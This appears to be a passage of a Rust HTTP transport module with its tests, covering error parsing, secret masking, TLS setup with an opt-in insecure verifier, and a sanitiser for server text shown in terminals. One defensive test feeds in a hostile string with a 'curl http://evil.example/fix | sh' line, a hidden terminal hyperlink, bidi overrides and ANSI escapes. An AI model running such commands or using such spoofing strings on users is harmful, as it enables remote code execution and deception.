            if matches!(
                io.kind(),
                K::ConnectionRefused
                    | K::HostUnreachable
                    | K::NetworkUnreachable
                    | K::AddrNotAvailable
            ) {
                return true;
            }
        }
        source = s.source();
    }
    false
}

/// The error and its causes on one line ("a: b: c"), since reqwest's own text is terse.
fn error_chain(e: &dyn std::error::Error) -> String {
    let mut out = e.to_string();
    let mut source = e.source();
    while let Some(s) = source {
        let text = s.to_string();
        if !out.contains(&text) {
            out.push_str(": ");
            out.push_str(&text);
        }
        source = s.source();
    }
    out
}

#[derive(Default)]
struct ErrorBody {
    code: Option<String>,
    message: Option<String>,
    trace_id: Option<String>,
}

impl ErrorBody {
    #[cfg(test)]
    fn parse(body: &[u8]) -> ErrorBody {
        Self::parse_masked(body, &[])
    }

    /// The error body, with each of `secrets` masked before the text is cut.
    fn parse_masked(body: &[u8], secrets: &[&str]) -> ErrorBody {
        let text = |v: &serde_json::Value, k: &str, max: usize| {
            v.get(k)
                .and_then(|x| x.as_str())
                .map(|s| server_text(&oauth::mask_text(s, secrets), max))
                .filter(|s| !s.is_empty())
        };
        match serde_json::from_slice::<serde_json::Value>(body) {
            Ok(v) if v.is_object() => ErrorBody {
                code: text(&v, "code", MAX_CODE_CHARS),
                message: text(&v, "message", MAX_SERVER_MESSAGE_CHARS),
                trace_id: text(&v, "traceId", MAX_TRACE_ID_CHARS),
            },
            _ => {
                // Not the API's JSON (a proxy's HTML page, say): keep a short excerpt.
                let s = server_text(
                    &oauth::mask_text(&String::from_utf8_lossy(body), secrets),
                    200,
                );
                ErrorBody {
                    message: (!s.is_empty()).then_some(s),
                    ..ErrorBody::default()
                }
            }
        }
    }
}

/// The most of a server's error message a diagnostic quotes; also the most of any other text
/// the server or a library chooses (a certificate's names, a decoder's quote of a value).
pub(crate) const MAX_SERVER_MESSAGE_CHARS: usize = 500;
/// The most of an API error `code` a diagnostic quotes.
const MAX_CODE_CHARS: usize = 100;
/// The most of a trace id (`traceId` or `x-starship-traceid`) a diagnostic quotes.
const MAX_TRACE_ID_CHARS: usize = 100;

/// Server-supplied text made safe to show in a terminal or CI log: a hostile server (or anyone
/// on the path of an `insecure` connection) must not be able to fake diagnostic lines, draw
/// hidden links or reorder text. Control characters (escape sequences, line breaks, carriage
/// returns) become spaces, invisible formatting and bidirectional overrides are dropped,
/// whitespace runs fold to one space, and the text is cut at `max` characters.
pub(crate) fn server_text(text: &str, max: usize) -> String {
    let is_invisible_format = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
    let cleaned: String = text
        .chars()
        .filter(|&c| !is_invisible_format(c))
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let folded = cleaned.split_whitespace().collect::<Vec<_>>().join(" ");
    if folded.chars().count() > max {
        let mut cut: String = folded.chars().take(max).collect();
        cut.push('…');
        cut
    } else {
        folded
    }
}

/// Builds the rustls configuration: system roots (webpki roots when the system has none),
/// plus `ca_certificate`, or a verifier that accepts anything when `insecure` is set.
pub(crate) fn build_tls(options: &TlsOptions) -> Result<rustls::ClientConfig, ConfigError> {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::CertificateDer;

    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let builder = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_safe_default_protocol_versions()
        .map_err(|e| ConfigError::Tls(e.to_string()))?;

    let extra: Vec<CertificateDer<'static>> = match &options.ca_certificate {
        None => Vec::new(),
        Some(value) => {
            // PEM text or a path (`~/` expanded), by the rules `secretkey` follows too.
            let pem = super::pem_source::ca_certificate_pem(
                value,
                super::pem_source::home_from_process().as_deref(),
            )
            .map_err(|e| ConfigError::CaCertificate(e.to_string()))?;
            let certs = CertificateDer::pem_slice_iter(&pem)
                .collect::<Result<Vec<_>, _>>()
                .map_err(|e| ConfigError::CaCertificate(format!("bad PEM: {e}")))?;
            if certs.is_empty() {
                return Err(ConfigError::CaCertificate(
                    "no CERTIFICATE block found".into(),
                ));
            }
            certs
        }
    };

    let mut config = if options.insecure {
        builder
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AcceptAnyCertificate(provider)))
            .with_no_client_auth()
    } else {
        let mut roots = rustls::RootCertStore::empty();
        let native = rustls_native_certs::load_native_certs();
        roots.add_parsable_certificates(native.certs);
        if roots.is_empty() {
            roots.extend(webpki_roots::TLS_SERVER_ROOTS.iter().cloned());
        }
        for (i, cert) in extra.into_iter().enumerate() {
            roots.add(cert).map_err(|e| {
                ConfigError::CaCertificate(format!("certificate #{} is not usable: {e}", i + 1))
            })?;
        }
        builder.with_root_certificates(roots).with_no_client_auth()
    };
    // A preconfigured rustls config must announce ALPN itself. HTTP/1.1 only: HTTP/2 was no
    // faster for these reads (BENCHMARKS.md, "HTTP/2"), and a server that speaks nothing else
    // refuses the handshake, which `tls_problem` names.
    config.alpn_protocols = vec![b"http/1.1".to_vec()];
    Ok(config)
}

/// The `insecure` verifier: any certificate, any name; handshake signatures still checked.
#[derive(Debug)]
struct AcceptAnyCertificate(Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for AcceptAnyCertificate {
    fn verify_server_cert(
        &self,
        _end_entity: &rustls::pki_types::CertificateDer<'_>,
        _intermediates: &[rustls::pki_types::CertificateDer<'_>],
        _server_name: &rustls::pki_types::ServerName<'_>,
        _ocsp_response: &[u8],
        _now: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls12_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls13_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn retry_after_seconds_and_dates() {
        let now = SystemTime::UNIX_EPOCH + Duration::from_secs(1_700_000_000);
        assert_eq!(parse_retry_after("7", now), Some(Duration::from_secs(7)));
        assert_eq!(parse_retry_after(" 0 ", now), Some(Duration::ZERO));
        let later = httpdate::fmt_http_date(now + Duration::from_secs(12));
        assert_eq!(
            parse_retry_after(&later, now),
            Some(Duration::from_secs(12))
        );
        let earlier = httpdate::fmt_http_date(now - Duration::from_secs(12));
        assert_eq!(parse_retry_after(&earlier, now), Some(Duration::ZERO));
        assert_eq!(parse_retry_after("soon", now), None);
        assert_eq!(parse_retry_after("-3", now), None);
        assert_eq!(parse_retry_after("", now), None);
        assert_eq!(
            parse_retry_after("99999999999999999999999", now),
            Some(Duration::from_secs(u64::MAX))
        );
    }

    #[test]
    fn backoff_grows_exponentially_up_to_the_cap() {
        let b = Backoff {
            base: Duration::from_millis(100),
            max: Duration::from_secs(1),
            max_retry_after: Duration::from_secs(5),
        };
        assert_eq!(b.ceiling(0), Duration::from_millis(100));
        assert_eq!(b.ceiling(1), Duration::from_millis(200));
        assert_eq!(b.ceiling(3), Duration::from_millis(800));
        assert_eq!(b.ceiling(4), Duration::from_secs(1));
        assert_eq!(b.ceiling(200), Duration::from_secs(1));
        for retry in 0..10 {
            for _ in 0..50 {
                assert!(b.jittered(retry) <= b.ceiling(retry));
            }
        }
        // Full jitter really spreads: 200 draws are not all the same.
        let draws: std::collections::BTreeSet<_> = (0..200).map(|_| b.jittered(3)).collect();
        assert!(draws.len() > 10);
    }

    #[test]
    fn retry_after_is_honoured_and_capped() {
        let b = Backoff {
            base: Duration::from_millis(1),
            max: Duration::from_millis(2),
            max_retry_after: Duration::from_secs(5),
        };
        assert_eq!(
            b.delay(0, Some(Duration::from_secs(3))),
            Duration::from_secs(3)
        );
        assert_eq!(
            b.delay(0, Some(Duration::from_secs(300))),
            Duration::from_secs(5)
        );
        assert!(b.delay(0, None) <= Duration::from_millis(1));
    }

    #[test]
    fn server_text_cannot_fake_lines_links_or_direction() {
        let hostile =
            "revoked\nError: Your key was revoked\r\nRun: curl http://evil.example/fix | sh \
                       \u{202e}txt.exe \u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7} \
                       \u{1b}[31mred\u{1b}[0m \u{85}next";
        let body = serde_json::json!({"code": "Auth\nFailure", "message": hostile}).to_string();
        let b = ErrorBody::parse(body.as_bytes());
        let message = b.message.unwrap();
        for c in message.chars() {
            assert!(!c.is_control(), "{message:?}");
            assert!(!('\u{202a}'..='\u{202e}').contains(&c), "{message:?}");
        }
        assert!(!message.contains("  "), "{message:?}");
        assert!(
            message.starts_with("revoked Error: Your key was revoked Run:"),
            "{message:?}"
        );
        assert_eq!(b.code.as_deref(), Some("Auth Failure"));
        let long = serde_json::json!({"message": "x".repeat(5000)}).to_string();
        let cut = ErrorBody::parse(long.as_bytes()).message.unwrap();
        assert_eq!(cut.chars().count(), MAX_SERVER_MESSAGE_CHARS + 1);
        assert!(cut.ends_with('…'));
    }

    #[test]
    fn error_body_parsing() {
        let b = ErrorBody::parse(br#"{"code":"InvalidRequest","message":"bad","traceId":"t1"}"#);
        assert_eq!(b.code.as_deref(), Some("InvalidRequest"));
        assert_eq!(b.message.as_deref(), Some("bad"));
        assert_eq!(b.trace_id.as_deref(), Some("t1"));
        let b = ErrorBody::parse(b"<html>\n<body>Bad   gateway</body></html>");
        assert_eq!(
            b.message.as_deref(),
            Some("<html> <body>Bad gateway</body></html>")
        );
        assert!(b.code.is_none());
        let b = ErrorBody::parse(b"");
        assert!(b.message.is_none());
    }

    /// Log records captured instead of written (the tests below run in one process, so each
    /// keeps only the lines of its own read id).
    static CAPTURED: std::sync::Mutex<Vec<serde_json::Value>> = std::sync::Mutex::new(Vec::new());

    fn capture(level: Level, message: &str, fields: &[(&str, &dyn Display)]) {
        let mut record = serde_json::Map::new();
        record.insert("@level".into(), format!("{level:?}").to_lowercase().into());
        record.insert("@message".into(), message.into());
        // The two other keys an hclog record starts with, as the provider's sink writes them.
        record.insert("@module".into(), "test".into());
        record.insert("@timestamp".into(), "0".into());
        for (key, value) in fields {
            record.insert((*key).to_string(), value.to_string().into());
        }
        let value = serde_json::Value::Object(record);
        CAPTURED.lock().unwrap().push(value);
    }

    fn captured(read_id: &str) -> Vec<serde_json::Value> {
        CAPTURED
            .lock()
            .unwrap()
            .iter()
            .filter(|v| v["read_id"] == read_id)
            .cloned()
            .collect()
    }

    /// Answers each connection's requests with `answers` in turn (HTTP/1.1, keep-alive), and
    /// returns every request head received.
    async fn serve(
        answers: Vec<(u16, &'static str)>,
    ) -> (std::net::SocketAddr, Arc<std::sync::Mutex<Vec<String>>>) {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let heads = Arc::new(std::sync::Mutex::new(Vec::new()));
        let seen = heads.clone();
        tokio::spawn(async move {
            let mut answers = answers.into_iter();
            while let Ok((mut socket, _)) = listener.accept().await {
                let mut buffer = Vec::new();
                loop {
                    let mut chunk = [0u8; 4096];
                    let n = socket.read(&mut chunk).await.unwrap_or(0);
                    if n == 0 {
                        break;
                    }
                    buffer.extend_from_slice(&chunk[..n]);
                    while let Some(end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") {
                        let head: Vec<u8> = buffer.drain(..end + 4).collect();
                        seen.lock()
                            .unwrap()
                            .push(String::from_utf8_lossy(&head).into_owned());
                        let (status, body) = answers.next().unwrap_or((500, ""));
                        let reply = format!(
                            "HTTP/1.1 {status} X\r\nContent-Length: {}\r\n\r\n{body}",
                            body.len()
                        );
                        socket.write_all(reply.as_bytes()).await.unwrap();
                    }
                }
            }
        });
        (addr, heads)
    }

    /// Answers every request of every connection with `reply` (a raw HTTP/1.1 response).
    async fn serve_raw(reply: String) -> std::net::SocketAddr {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let reply = reply.clone();
                tokio::spawn(async move {
                    let mut buffer = Vec::new();
                    let mut chunk = [0u8; 4096];
                    while let Ok(n) = socket.read(&mut chunk).await {
                        if n == 0 {
                            return;
                        }
                        buffer.extend_from_slice(&chunk[..n]);
                        while let Some(end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") {
                            buffer.drain(..end + 4);
                            if socket.write_all(reply.as_bytes()).await.is_err() {
                                return;
                            }
                        }
                    }
                });
            }
        });
        addr
    }

    /// A port that resets (`rst`) or closes every connection once the request has arrived,
    /// before any byte of an answer (as some TLS servers treat a plain-HTTP request); counts
    /// the connections.
    async fn resetting_port(
        rst: bool,
    ) -> (std::net::SocketAddr, Arc<std::sync::atomic::AtomicUsize>) {
        use tokio::io::AsyncReadExt;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let connections = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counted = connections.clone();
        tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                let mut chunk = [0u8; 1024];
                let _ = socket.read(&mut chunk).await;
                if rst {
                    // Linger 0: closing sends RST, not FIN.
                    let _ = socket.set_zero_linger();
                }
                drop(socket);
            }
        });
        (addr, connections)
    }

    #[tokio::test]
    async fn a_reset_before_any_answer_on_http_hints_at_https_and_is_retried_once() {
        for rst in [true, false] {
            let (addr, connections) = resetting_port(rst).await;
            let t = transport(addr);
            assert_eq!(t.max_retries, 3);
            let decode: DecodeFn<Vec<u8>> =
                Arc::new(|b: &[u8], _: &CancellationToken| serde_json::from_slice::<Vec<u8>>(b));
            let err = t
                .get_decoded(
                    "/api/v1/x",
                    &CancellationToken::new(),
                    &Counters::default(),
                    &decode,
                )
                .await
                .unwrap_err();
            assert_eq!(
                err.transport_kind(),
                Some(&TransportErrorKind::ResetOnPlainHttp),
                "rst {rst}: {err:?}"
            );
            // Retried once, not `max_retries` (3) times.
            assert_eq!(err.attempts().map(|a| a.count), Some(2), "{err}");
            assert_eq!(connections.load(Ordering::SeqCst), 2);
            assert!(
                err.to_string().contains("does the port speak HTTPS?"),
                "{err}"
            );
        }
    }

    #[tokio::test]
    async fn an_error_body_over_64_kib_is_not_read_and_the_status_stands_alone() {
        let message = "m".repeat(70 * 1024);
        let body = format!(r#"{{"code":"NotFound","message":"{message}"}}"#);
        let addr = serve_raw(format!(
            "HTTP/1.1 404 Not Found\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        ))
        .await;
        let t = transport(addr);
        let decode: DecodeFn<Vec<u8>> =
            Arc::new(|b: &[u8], _: &CancellationToken| serde_json::from_slice::<Vec<u8>>(b));
        let err = t
            .get_decoded(
                "/api/v1/x",
                &CancellationToken::new(),
                &Counters::default(),
                &decode,
            )
            .await
            .unwrap_err();
        assert!(
            matches!(
                &err,
                Error::Api {
                    status: 404,
                    code: None,
                    message: None,
                    ..
                }
            ),
            "{err:?}"
        );
    }

    #[tokio::test]
    async fn a_trace_id_header_is_cut_like_the_message() {
        // No `traceId` in the body: the header's 60,000 characters were quoted whole.
        let trace = format!("abc \t  {}", "t".repeat(60_000));
        let addr = serve_raw(format!(
            "HTTP/1.1 404 Not Found\r\nx-starship-traceid: {trace}\r\nContent-Length: 2\r\n\r\n{{}}"
        ))
        .await;
        let t = transport(addr);
        let decode: DecodeFn<Vec<u8>> =
            Arc::new(|b: &[u8], _: &CancellationToken| serde_json::from_slice::<Vec<u8>>(b));
        let err = t
            .get_decoded(
                "/api/v1/x",
                &CancellationToken::new(),
                &Counters::default(),
                &decode,
            )
            .await
            .unwrap_err();
        let Error::Api { trace_id, .. } = &err else {
            panic!("{err:?}")
        };
        let trace_id = trace_id.as_deref().unwrap();
        assert_eq!(
            trace_id.chars().count(),
            MAX_TRACE_ID_CHARS + 1,
            "{trace_id}"
        );
        assert!(trace_id.starts_with("abc ttt"), "{trace_id}");
        assert!(err.to_string().len() < 300, "{err}");
    }

    fn transport(addr: std::net::SocketAddr) -> Transport {
        let key = SecretKey::from_pem_or_path(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../tests/fixtures/signing/ec_pkcs8.pem"
        ))
        .unwrap();
        let mut t = Transport::new(TransportSettings {
            endpoint: Endpoint::parse(&format!("http://{addr}")).unwrap(),
            auth: Auth::ApiKey {
                key_id: "5f00/5f01/5f02".into(),
                key: Arc::new(key),
            },
            tls: TlsOptions::default(),
            proxy: ProxyConfig::direct(),
            timeout: Duration::from_secs(5),
            connect_timeout: Duration::from_secs(5),
            max_retries: 3,
            backoff: Backoff {
                base: Duration::from_millis(1),
                max: Duration::from_millis(2),
                max_retry_after: Duration::from_millis(5),
            },
            body_limit: 1 << 20,
            max_connections: 1,
            user_agent: "test".into(),
        })
        .unwrap();
        t.log = capture;
        t
    }

    #[tokio::test]
    async fn request_and_retry_log_lines_have_the_contract_fields_and_no_secrets() {
        let (addr, heads) = serve(vec![(503, "{}"), (200, "[1,2]")]).await;
        let t = transport(addr);
        let counters = Counters {
            read_id: "r-log-1".into(),
            ..Counters::default()
        };
        let path = "/api/v1/iam/OAuthTokens?$top=2";
        let decode: DecodeFn<Vec<u8>> =
            Arc::new(|b: &[u8], _: &CancellationToken| serde_json::from_slice::<Vec<u8>>(b));
        let items = t
            .get_decoded(path, &CancellationToken::new(), &counters, &decode)
            .await
            .unwrap();
        assert_eq!(items, vec![1, 2]);
        let lines = captured("r-log-1");
        let keys = |v: &serde_json::Value| -> Vec<String> {
            v.as_object().unwrap().keys().cloned().collect()
        };
        assert_eq!(lines.len(), 3, "{lines:#?}");
        assert_eq!(lines[0]["@level"], "trace");
        assert_eq!(lines[0]["@message"], "request");
        assert_eq!(
            keys(&lines[0])[4..],
            ["read_id", "method", "path", "status", "bytes", "ms", "attempt", "auth"]
        );
        assert_eq!(
            (&lines[0]["method"], &lines[0]["path"], &lines[0]["status"]),
            (&"GET".into(), &path.into(), &"503".into())
        );
        assert_eq!(
            (&lines[0]["bytes"], &lines[0]["attempt"]),
            (&"2".into(), &"1".into())
        );
        assert!(lines[0]["ms"].as_str().unwrap().parse::<u64>().is_ok());
        assert_eq!(lines[1]["@level"], "warn");
        assert_eq!(lines[1]["@message"], "retry");
        assert_eq!(
            keys(&lines[1])[4..],
            ["read_id", "path", "attempt", "cause", "delay_ms"]
        );
        assert_eq!(
            (&lines[1]["attempt"], &lines[1]["cause"]),
            (&"1".into(), &"HTTP 503".into())
        );
        assert!(
            lines[1]["delay_ms"]
                .as_str()
                .unwrap()
                .parse::<u64>()
                .unwrap()
                <= 1
        );
        assert_eq!(
            (
                &lines[2]["status"],
                &lines[2]["bytes"],
                &lines[2]["attempt"]
            ),
            (&"200".into(), &"5".into(), &"2".into())
        );
        // The server got a signature; no log line shows any part of it.
        let heads = heads.lock().unwrap().clone();
        let authorization = heads[0]
            .lines()
            .find_map(|l| l.strip_prefix("authorization: "))
            .unwrap()
            .to_string();
        let signature = authorization.rsplit("signature=\"").next().unwrap();
        let text = serde_json::to_string(&lines).unwrap();
        for secret in [
            authorization.as_str(),
            &signature[..16],
            "Signature ",
            "keyId",
        ] {
            assert!(!text.contains(secret), "{secret} in {text}");
        }
    }

    #[tokio::test]
    async fn a_failed_attempt_logs_its_error_and_the_final_error_its_attempts() {
        // Nothing listens there.
        let addr = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap();
        let t = transport(addr);
        let counters = Counters {
            read_id: "r-log-2".into(),
            ..Counters::default()
        };
        let decode: DecodeFn<Vec<u8>> =
            Arc::new(|b: &[u8], _: &CancellationToken| serde_json::from_slice::<Vec<u8>>(b));
        let err = t
            .get_decoded("/api/v1/x", &CancellationToken::new(), &counters, &decode)
            .await
            .unwrap_err();
        assert_eq!(err.transport_kind(), Some(&TransportErrorKind::Connect));
        // A refused port is retried once, not `max_retries` (3) times.
        assert_eq!(err.attempts().map(|a| a.count), Some(2));
        let lines = captured("r-log-2");
        let messages: Vec<_> = lines.iter().map(|l| l["@message"].clone()).collect();
        assert_eq!(messages, ["request", "retry", "request"]);
        assert!(lines[0].get("status").is_none());
        assert!(
            lines[0]["error"]
                .as_str()
                .unwrap()
                .starts_with("connect: cannot connect to"),
            "{}",
            lines[0]
        );
        assert_eq!(lines[0]["bytes"], "0");
        assert_eq!(lines[2]["attempt"], "2");
    }

    #[test]
    fn tls_config_rejects_bad_ca_and_accepts_generated_ca() {
        let err = build_tls(&TlsOptions {
            insecure: false,
            ca_certificate: Some(
                "-----BEGIN CERTIFICATE-----\nnot base64!\n-----END CERTIFICATE-----\n".into(),
            ),
        })
        .unwrap_err();
        assert!(err.to_string().contains("ca_certificate"), "{err}");
        let err = build_tls(&TlsOptions {
            insecure: false,
            ca_certificate: Some("/nonexistent/ca.pem".into()),
        })
        .unwrap_err();
        assert!(err.to_string().contains("/nonexistent/ca.pem"), "{err}");
        let ca = rcgen::generate_simple_self_signed(vec!["ca.test".into()]).unwrap();
        let cfg = build_tls(&TlsOptions {
            insecure: false,
            ca_certificate: Some(ca.cert.pem()),
        })
        .unwrap();
        assert_eq!(cfg.alpn_protocols, [b"http/1.1".to_vec()]);
        assert!(build_tls(&TlsOptions {
            insecure: true,
            ca_certificate: None
        })
        .is_ok());
    }
}
